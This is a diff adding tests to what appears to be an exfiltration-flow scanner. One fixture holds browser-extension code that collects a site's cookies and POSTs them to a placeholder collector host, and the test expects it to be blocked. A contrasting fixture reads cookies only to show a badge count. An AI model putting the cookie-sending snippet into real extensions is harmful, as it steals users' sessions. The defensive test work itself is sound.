@@ -81,3 +81,27 @@ def test_a_credential_copied_into_a_folder_then_uploaded_to_a_release_blocks(tmp
 def test_project_files_copied_into_a_folder_then_gisted_do_not_block(tmp_path: Path) -> None:
     code = '#!/bin/sh\nout=$(mktemp -d)\ncp README.md notes.txt "$out/"\ngh gist create "$out"/*\n'
     assert blocking(tmp_path, {"bin/share.sh": code}) == {}
+
+
+# ------------------------------------------------ a browser extension sending the cookie jar out
+
+
+def test_an_extension_posting_the_cookie_jar_blocks(tmp_path: Path) -> None:
+    code = (
+        "browser.runtime.onMessage.addListener(async (m) => {\n"
+        "  const jar = await browser.cookies.getAll({ domain: m.domain });\n"
+        '  await fetch("https://collect.example.test/c", { method: "POST", body: JSON.stringify(jar) });\n'
+        "});\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"ext/background.js": code})
+
+
+def test_an_extension_counting_cookies_for_its_badge_does_not_block(tmp_path: Path) -> None:
+    code = (
+        "chrome.tabs.onActivated.addListener(async ({ tabId }) => {\n"
+        "  const tab = await chrome.tabs.get(tabId);\n"
+        "  const jar = await chrome.cookies.getAll({ url: tab.url });\n"
+        "  chrome.action.setBadgeText({ tabId, text: String(jar.length) });\n"
+        "});\n"
+    )
+    assert blocking(tmp_path, {"ext/background.js": code}) == {}
